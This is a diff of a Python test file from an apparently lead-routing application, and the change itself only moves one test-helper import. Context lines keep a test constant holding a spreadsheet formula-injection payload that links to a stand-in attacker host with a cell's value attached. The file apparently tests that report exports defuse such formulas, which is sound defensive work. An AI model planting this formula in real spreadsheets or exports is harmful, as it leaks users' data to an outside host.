@@ -10,7 +10,7 @@ from fastapi.testclient import TestClient
 from leadrouter.bootstrap import Container
 from leadrouter.render.spreadsheet import FORMULA_START
 from leadrouter.services.reports.export import COLUMNS
-from tests.support.agency import make_agency
+from tests.support.factories import make_agency
 from tests.support.time_engine import new_lead, producer
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
